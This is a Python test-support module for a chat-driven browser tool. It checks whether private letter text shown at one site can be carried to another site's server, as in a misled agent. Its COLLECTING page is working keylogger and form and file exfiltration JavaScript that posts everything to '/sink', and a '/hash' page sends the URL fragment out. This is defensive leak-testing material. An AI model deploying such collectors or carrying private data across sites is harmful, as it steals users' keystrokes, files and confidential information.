"""Ways by which text that a private site showed to a chat can reach the server of another, and ordinary tasks beside them.

``B`` is a site at a private address that shows a letter; ``A`` is another one, whose server's log says what came. A way is what the
chat reads at ``B`` and which calls it then makes. A task is the same, of an agent that nobody misleads.
"""

import base64
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import unquote, unquote_plus

from refbrowser import Chat
from tests.support.exchange import Request
from tests.support.server import Site

LETTER: Final = "The number of the account is 4711-0815-2231, and its balance is twelve thousand euros."
LEAST: Final = 24
"""Letters and digits of the letter in a row, in the spelling of the way, that have to come to ``A``."""

Call = dict[str, Any]
_ODD: Final = re.compile(r"[\W_]+")

COLLECTING: Final = """<label>Field <input id=f></label><label>More <textarea id=m></textarea></label>
<label>File <input type=file id=u multiple></label><select id=s><option>One<option>Two</select>
<script>
const flood = () => Array.from({length: 5000}, () => Math.random().toString(36).slice(2)).join(' ');
let sent = '';
const send = (what) => fetch('/sink', {method: 'POST', body: what});
for (const field of [f, m]) field.oninput = (event) => { sent += event.data ?? event.target.value; send(field.value); send(sent); };
let names = '', contents = '';
u.onchange = async () => {
  for (const file of u.files) { send(names += file.name); await send(await file.arrayBuffer()); await send(contents += await file.text()); }
};
let keys = '';
document.onkeydown = (event) => { if (event.key.length === 1) { keys += event.key; send(keys); } };
</script>"""
"""A page of ``A`` that sends all that it gets to its server."""


@dataclass(frozen=True, slots=True)
class Way:
    """``shown`` reads the letter at ``B``; ``calls`` are made then; ``data`` is what arrives if the way works."""

    name: str
    calls: Callable[["World", str], Sequence[Call]]
    data: str
    shown: Callable[["World"], Sequence[Call]] | None = None
    page: str = COLLECTING
    kind: str = ""


@dataclass(slots=True)
class World:
    """The two sites and the chat. ``tab_b`` and ``tab_a`` are its tabs at them; ``a`` is the address of A's page."""

    chat: Chat
    b: Site
    site_a: Site
    tab_b: int = 0
    tab_a: int = 0
    notes: dict[str, Any] = field(default_factory=dict)

    @property
    def a(self) -> str:
        return self.site_a.other("/page")

    @property
    def letter(self) -> str:
        return self.b.url("/letter")

    def file(self, name: str, data: bytes) -> str:
        path = self.chat.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return str(path)

    async def call(self, call: Call, *, done: bool = True) -> dict[str, Any]:
        """The answer of the call, which has to succeed unless it may be refused (``done`` false)."""
        answer: dict[str, Any] = await self.chat.call({"timeout_ms": 20_000 if done else 4_000, **call})
        assert answer["ok"] or not done, answer
        return answer


PRIVATE: Final = f"""<title>Letter</title><h1>Mail</h1><p id=text>{LETTER}</p><label>Own <input id=own value='{LETTER}'></label>
<button id=more onclick="out.textContent = text.textContent">More</button><p id=out></p>
<button id=ask onclick="alert(document.querySelector('#text').textContent)">Ask</button>
<button id=titled onclick="document.title = document.querySelector('#text').textContent">Title</button>
<button id=logs onclick="console.log(document.querySelector('#text').textContent)">Log</button>
<button id=load onclick="fetch('/letter.json').then((answer) => answer.text())">Load</button>
<script>
localStorage.note = document.querySelector('#text').textContent;
const long = () => 'padding of words '.repeat(4200) + document.querySelector('#text').textContent;
const flood = () => Array.from({{length: 5000}}, () => Math.random().toString(36).slice(2)).join(' ');
</script>"""


def typed(text: str, **more: Any) -> Call:
    return {"action": "type", "selector": "#f", "text": text, **more}


def pieces(text: str, length: int) -> list[str]:
    return [text[at : at + length] for at in range(0, len(text), length)]


def at_b(world: World, *calls: Call) -> list[Call]:
    return [{**call, "browser_id": world.tab_b} for call in calls]


def prepare(world: World) -> None:
    """The pages of both sites that every way needs."""
    world.b.page(PRIVATE, "/letter")
    world.b.route("/letter.json", json.dumps({"text": LETTER}), headers={"Content-Type": "application/json"})
    world.site_a.page(COLLECTING, "/page")
    world.site_a.page("<script>fetch('/sink', {method: 'POST', body: location.hash})</script>", "/hash")
    world.site_a.route("/sink", "ok")
    world.site_a.route("/done", "ok")


async def carry(world: World, way: Way) -> bool:
    """Makes the calls of the way, in two tabs of its own; whether the letter left for A."""
    world.site_a.page(way.page, "/page")
    opened = [await world.call({"action": "open", "url": url}) for url in (world.letter, world.a)]
    world.tab_b, world.tab_a = (answer["result"]["browser_id"] for answer in opened)
    for call in way.shown(world) if way.shown is not None else at_b(world, {"action": "content"}):
        if call["action"] == "vision_load":
            await world.chat.vision_load([world.notes["picture"]])
            continue
        answer = await world.call(call)
        if call["action"] == "screenshot":
            world.notes["picture"] = answer["result"]["path"]
    await world.call({"action": "set_active", "browser_id": world.tab_a})
    world.site_a.requests.clear()
    for call in way.calls(world, way.data):
        answer = await world.call(call, done=False)
        assert answer["ok"] or answer["code"] not in ("no_tab", "invalid_arguments"), answer
    # Whatever the page of A has begun to send has come when this has.
    await world.call({"action": "read", "url": world.site_a.other("/done")}, done=False)
    parts = "".join(request.argument("d", "") for request in world.site_a.requests)
    return left(way.data, "\n".join([parts, *map(sent_in, world.site_a.requests)]))


async def leave(world: World) -> None:
    """Puts the chat back for the next way: one tab, no routes, cookies or emulation."""
    for call in (
        {"action": "route", "operation": "remove"},
        {"action": "emulate", "reset": True},
        {"action": "storage", "operation": "clear"},
    ):
        await world.call(call, done=False)
    for tab in (await world.call({"action": "list"}))["result"]["browsers"][1:]:
        await world.call({"action": "close", "browser_id": tab["browser_id"]})


def left(data: str, received: str) -> bool:
    """Whether a run of what the way sends is in what came."""
    for wanted, there in (
        (_ODD.sub("", data).casefold(), _ODD.sub("", received).casefold()),
        ("".join(data.split()), "".join(received.split())),
    ):
        least = min(LEAST, len(wanted))
        if wanted and any(wanted[at : at + least] in there for at in range(max(1, len(wanted) - least + 1))):
            return True
    return False


def sent_in(request: Request) -> str:
    """Everything that a request sends: its address, its headers and its body, as they came and decoded."""
    values = [value for values in request.query.values() for value in values]
    headers = [f"{name} {value}" for name, value in request.headers.items()]
    body = request.body.decode("latin-1")
    basic = [_basic(value) for value in request.headers.get_all("authorization") or []]
    parts = [request.path, unquote_plus(request.path), unquote(request.path), *values, "".join(values), *headers, *basic]
    return "\n".join([*parts, body, unquote_plus(body), request.body.decode(errors="replace")])


def _basic(value: str) -> str:
    return base64.b64decode(value.removeprefix("Basic ") + "==").decode(errors="replace")
